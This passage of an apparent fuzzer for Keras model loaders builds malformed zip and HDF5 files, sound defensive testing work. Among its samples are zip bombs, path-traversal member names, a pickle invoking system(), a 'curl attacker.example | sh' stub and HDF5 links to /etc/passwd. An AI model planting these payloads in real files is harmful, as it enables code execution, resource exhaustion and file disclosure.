    def fn(text: bytes, rng) -> bytes:
        what = rng.randrange(9)
        if what == 0:
            return text[: rng.randrange(len(text) + 1)]
        if what == 1:
            at = rng.randrange(len(text) + 1)
            return text[:at] + bytes(rng.randrange(256) for _ in range(rng.randrange(1, 8))) + text[at:]
        if what == 2:
            return text.replace(b'"', b'"\xff', 1)
        if what == 3:
            return b"\xef\xbb\xbf" + text
        if what == 4:
            return text.replace(b"0.", b"NaN", 1).replace(b"1,", b"Infinity,", 1)
        if what == 5:
            return text.replace(b"{", b'{"class_name": "Dense", "class_name": 5, ', 1)
        if what == 6:
            return text.replace(b'"', b'"\\ud800', rng.randrange(1, 4))
        if what == 7:  # an integer too long for int(): Python refuses more than 4300 digits
            return text.replace(b"1", b"1" * rng.choice([4000, 4301, 100000]), 1)
        return text + rng.choice([b" ", b"}", b"\x00", b"garbage", b"]" * 1000])

    return with_json(data, kind, rng, ctx, fn, text_level=True)


# ---- zip level -------------------------------------------------------------------------------------

MEMBER_NAMES = [
    "../config.json", "/config.json", "config.json/", "CONFIG.JSON", "Config.json", "\\config.json", "C:/config.json",
    "./config.json", "assets/../../x", "a" * 4000, "конфиг.json", "assets/evil.py", "__main__.py", "model.pkl",
    "assets/" + "d/" * 200 + "x", "config.json\u202e", "tab\tname", "line\nbreak", "\ud800", "", "/", "assets/",
    "model.weights.npz", "model.weights.h5", "metadata.json", "config.json",
]


@op("zip", kinds=("keras",))
def zip_truncate(data, kind, rng, ctx):
    end = data.rfind(b"PK\x05\x06")
    cd = data.find(b"PK\x01\x02")
    points = [rng.randrange(len(data)), rng.randrange(len(data))]
    if end > 0:
        points += [end, end + rng.randrange(22), len(data) - 1]
    if cd > 0:
        points += [cd, cd + rng.randrange(max(1, end - cd) if end > cd else 46)]
    return data[: rng.choice(points)]


@op("zip", kinds=("keras",))
def zip_duplicate(data, kind, rng, ctx):
    """A member twice, the second copy different (another seed's, emptied, or garbage)."""

    def edit(entries):
        info, payload, c = rng.choice(entries)
        what = rng.randrange(4)
        if what == 0:
            other = payload
        elif what == 1:
            other = b""
        elif what == 2:
            other = rng.randbytes(rng.choice([1, 100, 5000]))
        else:
            src = rng.choice([n for n, k in SEED_KINDS.items() if k == "keras"])
            got = [p for i, p in zip_entries(ctx.seed_bytes(src)) if i.filename == info.filename]
            other = got[0] if got else b"{}"
        dup = (info, other, c)
        entries.insert(rng.randrange(len(entries) + 1), dup)

    return _rezip(data, edit)


def _zip_bomb_bytes(entries, name: str, size: int, lie: Optional[int] = None, filler: bytes = b" ") -> bytes:
    """Entries written as-is, then `name` as a deflated member inflating to `size` bytes (streamed)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", allowZip64=True) as zf:
        for info, payload, c in entries:
            if info.filename == name:
                continue
            info = copy.copy(info)
            info.compress_type = c
            info.extra = b""
            zf.writestr(info, payload)
        zinfo = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
        zinfo.compress_type = zipfile.ZIP_DEFLATED
        chunk = filler * (1 << 20)
        with zf.open(zinfo, "w", force_zip64=size > (1 << 31)) as member:
            left = size
            while left > 0:
                member.write(chunk[: min(left, len(chunk))])
                left -= len(chunk)
    data = buf.getvalue()
    if lie is not None:
        data = patch_member(data, name, "usize", lie)
    return data


@op("zip", kinds=("keras",))
def zip_bomb(data, kind, rng, ctx):
    """A member that inflates far beyond its compressed size, honestly declared or lying about it."""
    entries = [(info, payload, info.compress_type) for info, payload in zip_entries(data)]
    name = rng.choice(["config.json", "config.json", "metadata.json", WEIGHTS, "assets/blob.bin"])
    size = rng.choice([2 << 20, 20 << 20, 65 << 20, 100 << 20])
    if name == "config.json" and rng.random() < 0.5:
        # valid JSON padded with whitespace: json would happily parse it once inflated
        cfg = next((p for i, p, _ in entries if i.filename == "config.json"), b"{}")
        size = max(size, len(cfg))
    lie = rng.choice([None, None, 1024, 0, 64 << 20, 2**32 - 1])
    filler = rng.choice([b" ", b"\0", b"[", b"A"])
    return _zip_bomb_bytes(entries, name, size, lie, filler)


# local header: field -> (offset, struct format); central directory entry likewise
LOCAL = {"flags": (6, "<H"), "method": (8, "<H"), "crc": (14, "<I"), "csize": (18, "<I"), "usize": (22, "<I"),
         "nlen": (26, "<H"), "xlen": (28, "<H")}
CENTRAL = {"flags": (8, "<H"), "method": (10, "<H"), "crc": (16, "<I"), "csize": (20, "<I"), "usize": (24, "<I"),
           "nlen": (28, "<H"), "xlen": (30, "<H"), "clen": (32, "<H"), "disk": (34, "<H"), "eattr": (38, "<I"),
           "offset": (42, "<I")}
EOCD = {"disk": (4, "<H"), "cddisk": (6, "<H"), "n_disk": (8, "<H"), "n_total": (10, "<H"), "cdsize": (12, "<I"),
        "cdoffset": (16, "<I"), "clen": (20, "<H")}


def _central_entries(data: bytes) -> list[tuple[int, bytes]]:
    """(offset, name) of every central directory entry, found by walking from the EOCD record."""
    end = data.rfind(b"PK\x05\x06")
    _need(end >= 0 and end + 22 <= len(data))
    cd_off = struct.unpack_from("<I", data, end + 16)[0]
    out, pos = [], cd_off
    while pos + 46 <= len(data) and data[pos:pos + 4] == b"PK\x01\x02":
        nlen, xlen, clen = struct.unpack_from("<HHH", data, pos + 28)
        out.append((pos, data[pos + 46: pos + 46 + nlen]))
        pos += 46 + nlen + xlen + clen
    _need(out)
    return out


def patch_member(data: bytes, member: str, fld: str, value: int, where=("local", "central")) -> bytes:
    """Set one header field of `member` (its last entry) in its local header and/or central entry."""
    out = bytearray(data)
    entries = [(pos, name) for pos, name in _central_entries(data) if name == member.encode("utf-8", "surrogatepass")]
    _need(entries)
    pos = entries[-1][0]
    if "central" in where and fld in CENTRAL:
        off, fmt = CENTRAL[fld]
        struct.pack_into(fmt, out, pos + off, value & (0xFFFF if fmt == "<H" else 0xFFFFFFFF))
    if "local" in where and fld in LOCAL:
        local = struct.unpack_from("<I", data, pos + 42)[0]
        if data[local:local + 4] == b"PK\x03\x04":
            off, fmt = LOCAL[fld]
            struct.pack_into(fmt, out, local + off, value & (0xFFFF if fmt == "<H" else 0xFFFFFFFF))
    return bytes(out)


@op("zip", kinds=("keras",))
def zip_header_field(data, kind, rng, ctx):
    """One field of a local header, a central directory entry or the end record set to an odd value."""
    where = rng.choice(["local", "central", "eocd"])
    if where == "eocd":
        end = data.rfind(b"PK\x05\x06")
        _need(end >= 0 and end + 22 <= len(data))
        fld, (off, fmt) = rng.choice(sorted(EOCD.items()))
        old = struct.unpack_from(fmt, data, end + off)[0]
        mask = 0xFFFF if fmt == "<H" else 0xFFFFFFFF
        value = rng.choice([0, 1, mask, old + 1, old - 1, old * 2, rng.randrange(mask + 1)]) & mask
        out = bytearray(data)
        struct.pack_into(fmt, out, end + off, value)
        return bytes(out)
    entries = _central_entries(data)
    pos, name = rng.choice(entries)
    table = LOCAL if where == "local" else CENTRAL
    fld, (off, fmt) = rng.choice(sorted(table.items()))
    base = pos if where == "central" else struct.unpack_from("<I", data, pos + 42)[0]
    _need(base + 30 <= len(data))
    old = struct.unpack_from(fmt, data, base + off)[0]
    mask = 0xFFFF if fmt == "<H" else 0xFFFFFFFF
    value = rng.choice([0, 1, mask, old + 1, old - 1, old * 2, rng.randrange(mask + 1), 99, 12, 14, 0x0001, 0x0008,
                        0x0041]) & mask
    out = bytearray(data)
    struct.pack_into(fmt, out, base + off, value)
    return bytes(out)


@op("zip", kinds=("keras",))
def zip_member_name(data, kind, rng, ctx):
    """Odd member names: a member renamed, or extra members added with odd names."""

    def edit(entries):
        name = rng.choice(MEMBER_NAMES)
        if rng.random() < 0.5:
            i = rng.randrange(len(entries))
            info, payload, c = entries[i]
            new = zipfile.ZipInfo(name or "x", info.date_time)
            if not name:
                new.filename = ""
            entries[i] = (new, payload, c)
        else:
            for _ in range(rng.choice([1, 3, 10])):
                new = zipfile.ZipInfo(rng.choice(MEMBER_NAMES) or "x", (2024, 1, 1, 0, 0, 0))
                entries.insert(rng.randrange(len(entries) + 1), (new, rng.randbytes(rng.choice([0, 10, 1000])), None))

    return _rezip(data, edit)


@op("zip", kinds=("keras",))
def zip_raw_name(data, kind, rng, ctx):
    """A member name changed in the raw bytes (same length): NUL bytes, slashes, invalid UTF-8."""
    entries = _central_entries(data)
    pos, name = rng.choice(entries)
    _need(name)
    out = bytearray(data)
    local = struct.unpack_from("<I", data, pos + 42)[0]
    i = rng.randrange(len(name))
    byte = rng.choice([0, ord("/"), ord("\\"), ord("."), 0xFF, 0xC3, 0x80, ord("\n")])
    out[pos + 46 + i] = byte
    if rng.random() < 0.7 and data[local:local + 4] == b"PK\x03\x04":
        out[local + 30 + i] = byte
    return bytes(out)


@op("zip", kinds=("keras",))
def zip_weights_not_hdf5(data, kind, rng, ctx):
    """model.weights.h5 replaced by something else, or an npz member with odd contents."""
    what = rng.randrange(9)

    def npz(arrays_bytes: dict) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            for k, v in arrays_bytes.items():
                z.writestr(k, v)
        return buf.getvalue()

    def npy(header: bytes, version=(1, 0)) -> bytes:
        fmt = "<H" if version[0] == 1 else "<I"
        return b"\x93NUMPY" + bytes(version) + struct.pack(fmt, len(header)) + header

    if what == 0:
        payload = b""
    elif what == 1:
        payload = rng.randbytes(rng.choice([1, 8, 512, 5000]))
    elif what == 2:
        payload = b"\x89HDF\r\n\x1a\n" + rng.randbytes(rng.choice([0, 8, 100, 2000]))
    elif what == 3:
        payload = data  # the archive itself
    elif what == 4:
        payload = ctx.seed_bytes(rng.choice([n for n, k in SEED_KINDS.items() if k == "h5"]))
    elif what == 5:
        payload = b'{"class_name": "Sequential"}'
    else:
        headers = [
            b"{'descr': '<f4', 'fortran_order': False, 'shape': (3, 4), }",
            b"{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776, 1099511627776), }",
            b"{'descr': '|O', 'fortran_order': False, 'shape': (2,), }",
            b"{'descr': [('a', '<f4')], 'fortran_order': False, 'shape': (-1,), }",
            b"{'descr': '<f4', 'fortran_order': False, 'shape': " + b"(" * 150 + b")" * 150 + b", }",
            b"{'descr': '<f4', 'fortran_order': False, 'shape': __import__('os').system('true'), }",
            b"{'descr': '<f4'",
            b"\xff\xfe",
            b"{'descr': '<f4', 'fortran_order': False, 'shape': (" + b"2, " * 64 + b"), }",
        ]
        members = {}
        for i in range(rng.choice([1, 2, 5])):
            version = rng.choice([(1, 0), (2, 0), (3, 0), (9, 9)])
            members[rng.choice([f"layers/dense/vars/{i}.npy", f"layers/dense/vars/{i}", "../x.npy", "x.npy"])] = (
                npy(rng.choice(headers), version)
            )
        if what == 8:
            members["huge.npy"] = b"\x93NUMPY\x02\x00" + struct.pack("<I", 0xFFFFFFF0)
        payload = npz(members)

    def edit(entries):
        for i, (info, _, c) in enumerate(entries):
            if info.filename in (WEIGHTS, "model.weights.npz"):
                new_info = info
                if what >= 6:
                    new_info = zipfile.ZipInfo("model.weights.npz", info.date_time)
                entries[i] = (new_info, payload, rng.choice([c, c, zipfile.ZIP_DEFLATED]))
                return
        raise _NotApplicable()

    return _rezip(data, edit)


@op("zip", kinds=("keras",))
def zip_compression(data, kind, rng, ctx):
    """Members compressed as Keras never does (deflate, bzip2, lzma), or an unsupported method declared."""

    def edit(entries):
        for i, (info, payload, c) in enumerate(entries):
            if rng.random() < 0.6:
                entries[i] = (info, payload, rng.choice([zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA,
                                                         zipfile.ZIP_STORED]))

    out = _rezip(data, edit)
    if rng.random() < 0.3:
        pos, name = rng.choice(_central_entries(out))
        out = patch_member(out, name.decode("utf-8", "replace"), "method", rng.choice([1, 6, 9, 97, 98, 99, 0xFFFF]))
    return out


@op("zip", kinds=("keras",))
def zip_flags(data, kind, rng, ctx):
    """General-purpose flag bits: encrypted, data descriptor, UTF-8, strong encryption."""
    pos, name = rng.choice(_central_entries(data))
    bit = rng.choice([0x0001, 0x0008, 0x0040, 0x0800, 0x2000, 0xFFFF])
    flags = struct.unpack_from("<H", data, pos + 8)[0]
    return patch_member(data, name.decode("utf-8", "replace"), "flags", flags | bit)


@op("zip", kinds=("keras",))
def zip_many_members(data, kind, rng, ctx):
    n = rng.choice([100, 2000, 4000, 5000, 70000])
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(buf, "w", allowZip64=True) as zout:
        for info in zin.infolist():
            info.extra = b""
            zout.writestr(info, zin.read(info))
        with warnings.catch_warnings():  # applied twice, the members repeat: the duplicates are the point
            warnings.filterwarnings("ignore", "Duplicate name", UserWarning)
            for i in range(n):
                zout.writestr(zipfile.ZipInfo(f"assets/{i}", (2024, 1, 1, 0, 0, 0)), b"")
    return buf.getvalue()


@op("zip", kinds=("keras",))
def zip_comment(data, kind, rng, ctx):
    """An archive comment: long, or holding a fake end-of-central-directory record."""
    end = data.rfind(b"PK\x05\x06")
    _need(end >= 0)
    comment = rng.choice([b"x" * 65535, b"PK\x05\x06" + rng.randbytes(18), b"PK\x05\x06" + b"\0" * 18, b"\xff" * 10])
    out = bytearray(data[: end + 22])
    struct.pack_into("<H", out, end + 20, len(comment))
    return bytes(out) + comment


@op("zip", kinds=("keras",))
def zip_extra_field(data, kind, rng, ctx):
    """A member's extra field (zip64 and others) with odd contents, in the raw bytes."""
    entries = _central_entries(data)
    pos, name = rng.choice(entries)
    extra = rng.choice([
        struct.pack("<HH", 0x0001, 8) + struct.pack("<Q", 2**63),
        struct.pack("<HH", 0x0001, 28) + rng.randbytes(28),
        struct.pack("<HH", 0x0001, 4) + b"\0\0\0\0",
        struct.pack("<HH", 0x7075, 9) + b"\x01" + rng.randbytes(4) + b"abcd",
        struct.pack("<HH", 0xFFFF, 65000),
        rng.randbytes(7),
    ])
    nlen, xlen, clen = struct.unpack_from("<HHH", data, pos + 28)
    out = bytearray(data)
    start = pos + 46 + nlen
    out[start:start + xlen] = extra
    struct.pack_into("<H", out, pos + 30, len(extra) & 0xFFFF)
    # Shifted central directory: fix the end record's size so that the archive still opens.
    delta = len(extra) - xlen
    end = bytes(out).rfind(b"PK\x05\x06")
    if end >= 0 and end + 22 <= len(out):
        struct.pack_into("<I", out, end + 12, (struct.unpack_from("<I", out, end + 12)[0] + delta) & 0xFFFFFFFF)
    return bytes(out)


@op("zip", kinds=("keras",))
def zip_junk_around(data, kind, rng, ctx):
    """Bytes prepended (a self-extracting stub) or appended."""
    junk = rng.randbytes(rng.choice([1, 100, 4096]))
    if rng.random() < 0.3:
        return b"PK\x03\x04" + junk + data
    return junk + data if rng.random() < 0.5 else data + junk


@op("zip", kinds=("keras",))
def zip_member_is_dir(data, kind, rng, ctx):
    """config.json (or the weights) as a directory entry, or missing with only a directory left."""

    def edit(entries):
        target = rng.choice(["config.json", WEIGHTS, "metadata.json"])
        for i, (info, payload, c) in enumerate(entries):
            if info.filename == target:
                entries[i] = (zipfile.ZipInfo(target + "/", info.date_time), b"", None)
                if rng.random() < 0.5:
                    entries.append((zipfile.ZipInfo(target + "/inner", info.date_time), payload, c))

    return _rezip(data, edit)


def _prefix_bytes(rng, ctx) -> bytes:
    """Bytes an attacker puts before a container: a pickle (hand-written opcodes, never built by
    pickling anything), a script, text, zeros, random bytes, or another seed's whole file."""
    command = b"touch /tmp/never-created"
    pickled = b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(command)) + command + b"\x85R."
    what = rng.randrange(8)
    if what == 0:
        return pickled
    if what == 1:  # a pickle cut short, or with its opcodes scrambled
        return pickled[: rng.randrange(1, len(pickled))] if rng.random() < 0.5 else b"\x80\x04" + rng.randbytes(64)
    if what == 2:
        return b"#!/bin/sh\ncurl -s https://attacker.example/x | sh\nexit 0\n"
    if what == 3:
        return b"Model card: trained by CI.\n" * rng.choice([1, 100, 3000])
    if what == 4:
        return b"\0" * rng.choice([1, 512, 4096, 70000])
    if what == 5 and ctx is not None:
        return ctx.seed_bytes(rng.choice(list(SEED_KINDS)))
    if what == 6:
        return b"\x89HDF\r\n\x1a\n" + rng.randbytes(rng.choice([8, 504, 2040]))
    return rng.randbytes(rng.choice([1, 511, 512, 4096]))


@op("zip", kinds=("keras",))
def zip_prefix(data, kind, rng, ctx):
    """A polyglot: bytes before the archive, left as `cat` leaves them (zip readers find the shift from
    the end record) or with every offset moved by them as `zip -A` does."""
    prefix = _prefix_bytes(rng, ctx)
    out = bytearray(data)
    if rng.random() < 0.5:
        end = data.rfind(b"PK\x05\x06")
        _need(end >= 0 and end + 22 <= len(data))
        count, cd_size, cd_offset = struct.unpack_from("<HII", data, end + 10)
        pos = cd_offset
        for _ in range(count):
            _need(data[pos:pos + 4] == b"PK\x01\x02")
            nlen, xlen, clen = struct.unpack_from("<HHH", data, pos + 28)
            struct.pack_into("<I", out, pos + 42, (struct.unpack_from("<I", data, pos + 42)[0] + len(prefix)) & 0xFFFFFFFF)
            pos += 46 + nlen + xlen + clen
        struct.pack_into("<I", out, end + 16, (cd_offset + len(prefix)) & 0xFFFFFFFF)
    return prefix + bytes(out)


def _h5_user_block(payload: bytes, rng) -> bytes:
    """What h5jam does: 512 * 2**k bytes before the superblock, and its base and end-of-file addresses
    moved by them (superblock version 0, as h5py writes); sometimes left unmoved, or with the
    superblock put at an offset the HDF5 library does not search."""
    _need(payload[:8] == b"\x89HDF\r\n\x1a\n" and len(payload) > 64)
    size = rng.choice([512, 1024, 2048, 4096, 1 << 16])
    block = _prefix_bytes(rng, None) if rng.random() < 0.5 else b"\0" * size
    out = bytearray(payload)
    how = rng.randrange(4)
    if payload[8] == 0 and how < 2:
        struct.pack_into("<Q", out, 24, size)
        struct.pack_into("<Q", out, 40, struct.unpack_from("<Q", out, 40)[0] + size)
    if how == 3:
        size += rng.choice([1, 8, 256])  # not a power of two: the library never looks there
    return block[:size].ljust(size, b"\0") + bytes(out)


# ---- HDF5 level ------------------------------------------------------------------------------------


def _h5_op(name: str, edit):
    def fn(data, kind, rng, ctx):
        return with_hdf5(data, kind, lambda payload: h5_edit(payload, lambda h5: edit(h5, rng), ctx))

    fn.__name__ = name
    op("hdf5", kinds=("keras", "h5"))(fn)


def _groups(h5) -> list:
    import h5py

    out = [h5]
    stack = [h5]
    while stack and len(out) < 5000:
        g = stack.pop()
        for k in g:
            link = g.get(k, getlink=True)
            if isinstance(link, h5py.HardLink):
                obj = g.get(k)
                if isinstance(obj, h5py.Group):
                    out.append(obj)
                    stack.append(obj)
    return out


def _datasets(h5) -> list:
    import h5py

    out = []
    for g in _groups(h5):
        for k in g:
            if isinstance(g.get(k, getlink=True), h5py.HardLink) and isinstance(g.get(k), h5py.Dataset):
                out.append((g, k))
    return out


def _h5_links(h5, rng):
    import h5py

    groups = _groups(h5)
    g = rng.choice(groups)
    what = rng.randrange(7)
    name = rng.choice(["link", "vars", "0", "kernel:0", "layers", "x" * 200])
    if name in g:
        name = name + "_"
    if what == 0:
        g[name] = h5py.SoftLink(rng.choice(["/", "/nowhere", "..", "/" + "a/" * 100, g.name]))
    elif what == 1:
        g[name] = h5py.ExternalLink(rng.choice(["/etc/passwd", "../../secret.h5", "self.h5", "", "http://x/y.h5"]),
                                    rng.choice(["/", "/data", "x"]))
    elif what == 2:  # a hard link back to an ancestor: a cycle
        g[name] = h5["/"]
    elif what == 3:  # several hard links to the root from one group: exponential paths
        for i in range(rng.choice([2, 3, 8])):
            g[f"{name}{i}"] = h5["/"]
    elif what == 4:
        ds = _datasets(h5)
        _need(ds)
        pg, k = rng.choice(ds)
        del pg[k]
        pg[k] = h5py.SoftLink(rng.choice(["/", "/nowhere", pg.name]))
    elif what == 5:
        ds = _datasets(h5)
        _need(ds)
        pg, k = rng.choice(ds)
        del pg[k]
        pg[k] = h5py.ExternalLink("/etc/passwd", "/")
    else:
        g[name] = g  # a group holding itself


def _h5_shape(h5, rng):
    """A dataset declaring an absurd shape (created lazily: nothing is allocated)."""
    import numpy as np

    ds = _datasets(h5)
    shape = rng.choice([(2**40,), (2**31, 2**31), (0,), (2**62,), (2**20,) * 3, (1,) * 32, (2**32, 0), (7, 2**50),
                        (2**63 - 1,), (3, 3, 2**40, 2**20)])
    dtype = rng.choice(["f4", "f8", "u1", "S1000000", "c16"])
    if ds and rng.random() < 0.7:  # replace a real weight, so that a layer owns it
        g, k = rng.choice(ds)
        del g[k]
    else:
        g, k = rng.choice(_groups(h5)), "absurd"
        if k in g:
            del g[k]
    chunks = tuple(1 for _ in shape) if all(shape) else None
    try:
        g.create_dataset(k, shape=shape, dtype=np.dtype(dtype), chunks=chunks)
    except Exception:
        g.create_dataset(k, shape=shape, dtype=np.dtype(dtype), chunks=chunks, maxshape=tuple(None for _ in shape))


def _h5_dtype(h5, rng):
    """A weight stored with an odd type: compound, variable-length, reference, enum, opaque, empty."""
    import h5py
    import numpy as np

    ds = _datasets(h5)
    _need(ds)
    g, k = rng.choice(ds)
    shape = g[k].shape
    del g[k]
    what = rng.randrange(8)
    if what == 0:
        g.create_dataset(k, shape=shape, dtype=np.dtype([("a", "f4"), ("b", "i8")]))
    elif what == 1:
        g.create_dataset(k, shape=shape, dtype=h5py.string_dtype())
    elif what == 2:
        g.create_dataset(k, shape=shape, dtype=h5py.ref_dtype)
    elif what == 3:
        g.create_dataset(k, shape=shape, dtype=h5py.enum_dtype({"a": 0, "b": 1}, basetype="i1"))
    elif what == 4:
        g.create_dataset(k, shape=shape, dtype=np.dtype("V7"))
    elif what == 5:
        g.create_dataset(k, data=h5py.Empty("f4"))
    elif what == 6:
        g.create_dataset(k, data=np.float32(1.0))  # scalar
    else:
        g.create_dataset(k, shape=shape, dtype=h5py.vlen_dtype(np.dtype("f4")))


def _h5_attrs_op(h5, rng):
    """Keras's attributes (model_config, layer_names, weight_names, versions) with odd types and values."""
    import h5py
    import numpy as np

    groups = _groups(h5)
    targets = [(h5, k) for k in ("model_config", "training_config", "keras_version", "backend", "layer_names")]
    for g in groups:
        for k in g.attrs:
            targets.append((g, k))
    g, key = rng.choice(targets)
    values = [
        42, np.arange(5), np.array([b"a", b"b"]), np.array([[b"a"], [b"b"]]), b"\xff\xfe", "", b"", np.array([], dtype="S1"),
        np.array(["dense", "nope"], dtype=h5py.string_dtype()), np.float64("nan"), np.void(b"\x00\x01"),
        np.array([b"x" * 100] * 700), b"{\"class_name\": \"Sequential\", \"config\": {\"layers\": []}}",
        np.array([b"../../etc", b"/abs", b"a\nb"]), h5.ref if hasattr(h5, "ref") else 0,
    ]
    value = rng.choice(values)
    if key in g.attrs:
        del g.attrs[key]
    if rng.random() < 0.15 and key in ("layer_names", "weight_names"):
        # the split form with a gap: layer_names0, layer_names2
        g.attrs[f"{key}0"] = np.array([b"dense"])
        g.attrs[f"{key}2"] = np.array([b"dense_1"])
        return
    if rng.random() < 0.1:
        return  # deleted
    g.attrs[key] = value


def _h5_delete(h5, rng):
    """A group, dataset or attribute Keras wrote, deleted."""
    groups = _groups(h5)
    what = rng.randrange(3)
    if what == 0 and len(groups) > 1:
        g = rng.choice(groups[1:])
        del h5[g.name]
    elif what == 1:
        ds = _datasets(h5)
        _need(ds)
        g, k = rng.choice(ds)
        del g[k]
    else:
        withattrs = [g for g in groups if len(g.attrs)]
        _need(withattrs)
        g = rng.choice(withattrs)
        del g.attrs[rng.choice(list(g.attrs))]


def _h5_many(h5, rng):
    """Many objects, or groups nested deeply."""
    import numpy as np

    g = rng.choice(_groups(h5))
    if rng.random() < 0.5:
        n = rng.choice([1000, 5000, 10000])
        for i in range(n):
            g.create_group(f"g{i}") if i % 2 else g.create_dataset(f"d{i}", shape=(1,), dtype="f4")
    else:
        depth = rng.choice([50, 63, 64, 65, 70, 200])
        node = g
        for i in range(depth):
            node = node.create_group("n")
        node.create_dataset("deep", data=np.zeros(3, "f4"))


def _h5_external_storage(h5, rng):
    """A dataset whose data lives in another file (external storage) or maps one (virtual)."""
    import h5py

    ds = _datasets(h5)
    _need(ds)
    g, k = rng.choice(ds)
    shape, dtype = g[k].shape or (1,), g[k].dtype
    del g[k]
    if rng.random() < 0.5:
        n = 1
        for d in shape:
            n *= d
        g.create_dataset(k, shape=shape, dtype=dtype, external=[(rng.choice(["/etc/passwd", "../x.bin"]), 0,
                                                                 max(n, 1) * dtype.itemsize)])
    else:
        layout = h5py.VirtualLayout(shape=shape, dtype=dtype)
        layout[...] = h5py.VirtualSource(rng.choice(["/etc/shadow.h5", "."]), "/data", shape=shape)
        g.create_virtual_dataset(k, layout)


for _name, _edit in (("hdf5_links", _h5_links), ("hdf5_shape", _h5_shape), ("hdf5_dtype", _h5_dtype),
                     ("hdf5_attrs", _h5_attrs_op), ("hdf5_delete", _h5_delete), ("hdf5_many", _h5_many),
                     ("hdf5_external_storage", _h5_external_storage)):
    _h5_op(_name, _edit)


def _hdf5_bytes(name, fn):
    def wrapper(data, kind, rng, ctx):
        return with_hdf5(data, kind, lambda payload: fn(payload, rng))

    wrapper.__name__ = name
    op("hdf5", kinds=("keras", "h5"), raw=True)(wrapper)


def _h5_truncate(payload: bytes, rng) -> bytes:
    at = rng.choice([rng.randrange(96), rng.randrange(2048), rng.randrange(len(payload)), len(payload) - 1,
                     len(payload) // 2])
    return payload[:at]


def _h5_flip(payload: bytes, rng) -> bytes:
    """Bytes changed, mostly in the metadata near the start (superblock, root group, object headers)."""
    out = bytearray(payload)
    for _ in range(rng.choice([1, 1, 2, 4, 16])):
        region = rng.random()
        if region < 0.3:
            i = rng.randrange(min(len(out), 96))
        elif region < 0.8:
            i = rng.randrange(min(len(out), 4096))
        else:
            i = rng.randrange(len(out))
        out[i] = rng.choice([out[i] ^ (1 << rng.randrange(8)), 0, 0xFF, rng.randrange(256)])
    return bytes(out)


def _h5_dims(payload: bytes, rng) -> bytes:
    """A dataspace message's dimension rewritten in place: a stored dataset declaring an absurd shape."""
    out = bytearray(payload)
    # dataspace message, version 1: version 1, rank r, flags, reserved(5) then r 8-byte dims;
    # version 2: version 2, rank, flags, type then dims. Find plausible ones by their small dims.
    spots = []
    for i in range(0, len(out) - 16):
        if out[i] in (1, 2) and 1 <= out[i + 1] <= 4 and out[i + 2] in (0, 1):
            start = i + (8 if out[i] == 1 else 4)
            dims = [struct.unpack_from("<Q", out, start + 8 * j)[0] for j in range(out[i + 1])
                    if start + 8 * j + 8 <= len(out)]
            if len(dims) == out[i + 1] and all(1 <= d <= 4096 for d in dims):
                spots.append((start, out[i + 1]))
    _need(spots)
    start, rank = rng.choice(spots)
    j = rng.randrange(rank)
    struct.pack_into("<Q", out, start + 8 * j, rng.choice([0, 2**40, 2**63, 2**64 - 1, 2**32 + 1]))
    return bytes(out)


def global_heap_damage(payload: bytes, what: int, rng) -> bytes:
    """The first global heap collection (where a legacy file's model_config string lives) damaged:
    0 an object header zeroed (index 0, size 0: the HDF5 library loops on it forever), 1 the collection
    declared longer than the file (the tail reads as zeros: the same loop), 2 an object claiming more
    bytes than its collection, 3 the free-space object's size set to 0, 4 the file cut inside it."""
    at = payload.find(b"GCOL")
    _need(at >= 0 and at + 16 <= len(payload))
    size = struct.unpack_from("<Q", payload, at + 8)[0]
    objs, p, end = [], at + 16, min(at + size, len(payload))
    while p + 16 <= end:
        idx, osz = struct.unpack_from("<H", payload, p)[0], struct.unpack_from("<Q", payload, p + 8)[0]
        objs.append((p, idx, osz))
        if idx == 0:
            break
        p += 16 + ((osz + 7) & ~7)
    _need(objs)
    out = bytearray(payload)
    if what == 0:
        p = rng.choice(objs)[0]
        out[p:p + 16] = bytes(16)
    elif what == 1:
        struct.pack_into("<Q", out, at + 8, len(payload) - at + rng.choice([8, 4096, 1 << 20]))
    elif what == 2:
        used = [o for o in objs if o[1]]
        _need(used)
        p = rng.choice(used)[0]
        struct.pack_into("<Q", out, p + 8, rng.choice([size, 2**32, 2**63, 2**64 - 1]))
    elif what == 3:
        free = [o for o in objs if o[1] == 0]
        _need(free)
        struct.pack_into("<Q", out, free[0][0] + 8, 0)
    else:
        return payload[: at + rng.randrange(16, max(17, size))]
    return bytes(out)


_hdf5_bytes("hdf5_global_heap", lambda payload, rng: global_heap_damage(payload, rng.randrange(5), rng))
_hdf5_bytes("hdf5_truncate", _h5_truncate)
_hdf5_bytes("hdf5_flip", _h5_flip)
_hdf5_bytes("hdf5_dims", _h5_dims)
_hdf5_bytes("hdf5_user_block", _h5_user_block)


# ---- bytes level (any file) ------------------------------------------------------------------------


@op("bytes")
def bytes_truncate(data, kind, rng, ctx):
    return data[: rng.randrange(len(data))]


@op("bytes")
def bytes_flip(data, kind, rng, ctx):
    out = bytearray(data)
    for _ in range(rng.choice([1, 2, 8, 64])):
        i = rng.randrange(len(out))
        out[i] ^= 1 << rng.randrange(8)
    return bytes(out)


@op("bytes")
def bytes_splice(data, kind, rng, ctx):
    """A range of the file replaced by a range of another seed (or of itself)."""
    other = ctx.seed_bytes(rng.choice(list(SEED_KINDS)))
    a = rng.randrange(len(data))
    b = min(len(data), a + rng.randrange(1, 4096))
    c = rng.randrange(len(other))
    return data[:a] + other[c: c + (b - a) + rng.randrange(-8, 9)] + data[b:]


@op("bytes")
def bytes_chunk(data, kind, rng, ctx):
    """A chunk deleted, duplicated or filled with a constant."""
    a = rng.randrange(len(data))
    b = min(len(data), a + rng.choice([1, 16, 512, 8192]))
    what = rng.randrange(3)
    if what == 0:
        return data[:a] + data[b:]
    if what == 1:
        return data[:b] + data[a:b] + data[b:]
    return data[:a] + bytes([rng.choice([0, 0xFF, 0x20])]) * (b - a) + data[b:]


@op("bytes")
def bytes_fake_superblock(data, kind, rng, ctx):
    """An HDF5 signature written where the HDF5 library searches for one (512, 1024 ... bytes in),
    followed by a superblock's worth of noise or a copy of the file's own."""
    spots = [at for at in (512, 1024, 2048, 4096, 8192) if at + 64 <= len(data)]
    _need(spots)
    at = rng.choice(spots)
